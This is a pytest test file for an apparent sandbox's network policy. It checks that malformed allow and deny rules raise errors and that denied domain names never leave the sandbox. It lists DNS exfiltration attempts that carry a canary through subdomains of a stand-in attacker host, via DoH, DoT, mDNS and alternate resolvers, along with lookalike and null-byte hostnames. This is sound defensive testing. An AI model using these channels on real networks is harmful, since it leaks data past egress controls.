"""N-02: nothing is allowed by mistake. N-03: a name that is not allowed never leaves, by any question to anybody."""

from __future__ import annotations

from typing import Any

import pytest
from net_kit import EVIL, EVIL_AT, GOOD, GOOD_AT, HELLO, attempt, http, https, name, set_network, tcp

from netkit import Internet
from sloplet import Network, Sandbox
from sloplet.errors import SlopletError, SpecError

CANARY = "canary7f3a9c"
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}


def dns(to: str, **more: Any) -> dict[str, Any]:
    return {"way": "dns", "to": to, **more}


# -- N-02 ----------------------------------------------------------------------------------------------------

NONSENSE: list[tuple[str, dict[str, Any]]] = [
    ("allow is None", {"allow": None}),
    ("allow is a text", {"allow": ""}),
    ("allow is a name", {"allow": GOOD}),
    ("an empty rule", {"allow": [""]}),
    ("a blank rule", {"allow": [" "]}),
    ("a rule that is None", {"allow": [None]}),
    ("a number", {"allow": [443]}),
    ("a key that is not known", {"allowed": [GOOD]}),
    ("a typing error", {"alow": [GOOD]}),
    ("a preset that is not known", {"allow": ["@githb"]}),
    ("a broken wildcard", {"allow": ["*."]}),
    ("half a wildcard", {"allow": ["a*.example"]}),
    ("two wildcards", {"allow": ["*.*.example"]}),
    ("port 0", {"allow": [f"{GOOD}:0"]}),
    ("port 65536", {"allow": [f"{GOOD}:65536"]}),
    ("half a scheme", {"allow": [f"http//{GOOD}"]}),
    ("a network of no size", {"allow": ["10.0.0.0/33"]}),
    ("deny is a text", {"deny": EVIL}),
    ("deny is None", {"deny": None}),
    ("learn is a text", {"learn": "yes"}),
    ("connections is 0", {"connections": 0}),
]


@pytest.mark.parametrize(("what", "settings"), NONSENSE, ids=[what.replace(" ", "-") for what, _ in NONSENSE])
def test_n02_nonsense_is_an_error(what: str, settings: dict[str, Any]) -> None:
    with pytest.raises(SlopletError) as caught:
        Network(**settings)
    assert caught.value.hint or len(str(caught.value)) > 20, "it says what to write"
    with pytest.raises(SlopletError):
        Sandbox(engine="fake", network=settings).start()


@pytest.mark.parametrize("network", ["", "all", "host", "allow", None, True, 0, [GOOD], {"alow": []}])
def test_n02_no_such_network(network: Any) -> None:
    with pytest.raises(SpecError):
        Sandbox(engine="fake", network=network).start()


def test_n02_an_empty_list_is_nothing(shared: Sandbox, net: Internet) -> None:
    for network in (Network(), Network(allow=[]), Network(deny=[GOOD]), Network(allow=[GOOD], deny=["*"], learn=False)):
        set_network(shared, network)
        tried = attempt(shared, http(f"x.{EVIL}"), http(EVIL), http(GOOD_AT), https(EVIL_AT))
        tried.all_refused()
        assert net.packets() == [], "nothing at all left"
        assert tried.denied, "and the command's result says so"


def test_n02_a_star_is_every_public_name(shared: Sandbox, net: Internet) -> None:
    """The positive control of the above, and no more than it says: addresses are not names."""
    set_network(shared, Network(allow=["*"]))
    by_name, by_address, inner = attempt(shared, http(GOOD), http(GOOD_AT), http("inner.example")).outcomes
    assert HELLO in by_name.data
    assert by_address.refused
    assert inner.refused
    assert net.dialled() == {GOOD_AT}


def test_n02_names_in_other_letters(shared: Sandbox, net: Internet) -> None:
    """One name, however it is written; and no other that looks like it."""
    set_network(shared, Network(allow=["GOOD.Example."]))
    for host in (GOOD.upper(), f"{GOOD}.", "gOOd.exAMPle"):
        for url in (f"http://{host}/", f"https://{host}/"):
            result = shared.run(["curl", "-sSk", "-m", "10", url])
            assert "hello from good.example" in result.stdout.lower(), (url, result.stderr, result.denied)
    net.forget()
    others = (
        "goodexample",
        "xgood.example",
        "good.example.evil.example",
        "good.example.com",
        "good-example",
        "g\u043eod.example",
    )
    for host in others:
        assert not shared.run(["curl", "-sSk", "-m", "10", f"http://{host}/"]).ok
    assert net.packets() == []


# -- N-03 ----------------------------------------------------------------------------------------------------


def exfiltrations() -> list[dict[str, Any]]:
    """Ways to get a text out by asking for names."""
    below = f"{CANARY}.{EVIL}"
    ways = [dns(below, type=number) for number in TYPES.values()]
    ways += [dns(below, server=server) for server in ("8.8.8.8", "9.9.9.9", EVIL_AT, "169.254.169.253", "10.0.0.2")]
    ways += [
        dns(below, tcp=True),
        dns(below, tcp=True, server="9.9.9.9"),
        dns(below, type=16, tcp=True, server=EVIL_AT),
    ]
    ways += [dns(f"{CANARY}.{GOOD}"), dns(CANARY), dns(f"{CANARY}.in-addr.arpa", type=12), dns(f"{CANARY}.local")]
    ways += [name(below), name(f"{CANARY}.{GOOD}"), http(below), https(below)]
    return ways


def past_the_resolver() -> list[dict[str, Any]]:
    """Resolvers on other ports than 53."""
    question = f"GET /dns-query?name={CANARY}.{EVIL} HTTP/1.1\r\nHost: 9.9.9.9\r\n\r\n"
    return [
        dns(f"{CANARY}.{EVIL}", server="224.0.0.251", port=5353, wait=2),
        dns(f"{CANARY}.{EVIL}", server="9.9.9.9", port=5353, wait=2),
        dns(f"{CANARY}.{EVIL}", server="9.9.9.9", port=853, tcp=True),
        tcp("9.9.9.9", 853, (CANARY, None), tls="dns.quad9.net"),
        tcp("9.9.9.9", 443, (question, None), tls=""),
        tcp("9.9.9.9", 443, (question, None), tls="dns.quad9.net"),
        {"way": "udp", "to": "9.9.9.9", "port": 443, "send": CANARY, "wait": 2},
    ]


def test_n03_denied_names_never_leave(shared: Sandbox, net: Internet) -> None:
    set_network(shared, Network(allow=[f"{GOOD}:443"], deny=[f"*.{EVIL}"]))
    for outcome in attempt(shared, *exfiltrations()).outcomes:
        assert outcome.error != "TIMEOUT", f"no answer: {outcome}"
        # a name that is denied gets an address of the sandbox's own, so that connecting tells why it is refused
        assert all(address.startswith(("198.18.", "198.19.")) for address in outcome.data.split()), outcome
    for outcome in attempt(shared, *past_the_resolver()).outcomes:
        assert outcome.error, f"an answer: {outcome}"
    assert net.heard(CANARY) == []
    assert net.seen("dns") == []


def test_n03_a_request_that_is_denied_later(shared: Sandbox, net: Internet) -> None:
    """Of a name that is allowed the name alone leaves: the port, the path and what is below it do not."""
    set_network(shared, Network(allow=[f"{GOOD}:443"]))
    tried = attempt(shared, http(GOOD, path=f"/{CANARY}"), tcp(GOOD, 22, (CANARY, None)), http(f"{CANARY}.{GOOD}"))
    tried.all_refused()
    assert net.heard(CANARY) == []
    assert net.dialled() == set()
    assert {event["name"] for event in net.seen("dns")} <= {GOOD}
    assert any("443" in text for text in tried.denied), tried.denied


def test_n03_the_judge_hears_what_is_allowed(shared: Sandbox, net: Internet) -> None:
    """The positive control: with every name below allowed, the very same question does leave."""
    set_network(shared, Network(allow=[f"*.{EVIL}"]))
    outcome = attempt(shared, http(f"{CANARY}.{EVIL}")).one
    assert f"hello from {CANARY}.{EVIL}" in outcome.data
    assert any(event["name"] == f"{CANARY}.{EVIL}" for event in net.seen("dns"))
    assert net.heard(CANARY)


def test_n03_strange_names(shared: Sandbox, net: Internet) -> None:
    """Whatever is asked, the name server lives on, and nothing that is no name is looked for."""
    set_network(shared, Network(allow=["*"]))
    strange = [
        ".".join(letter * 62 for letter in "abcd"), "under_score.example", "-x.example", "x.-", "*", "xn--a",
        "x\t.example", "\x1b[2J.example", "127.0.0.1", "0x7f.1", "2130706433", "1.2.3.4.5", "[::1]", "localhost",
        "a.localhost", "host.sloplet", "good.example\0.evil.example",
    ]  # fmt: skip
    for outcome in attempt(shared, *(dns(text) for text in strange)).outcomes:
        assert outcome.error != "TIMEOUT", outcome
    asked = {event["name"] for event in net.seen("dns")}
    assert not {text for text in asked if not text.isascii() or any(mark in text for mark in "\t\x1b\0 *[")}, asked
    assert not asked & {"127.0.0.1", "0x7f.1", "2130706433", "localhost", "a.localhost", "host.sloplet"}
    assert HELLO in attempt(shared, http(GOOD)).one.data
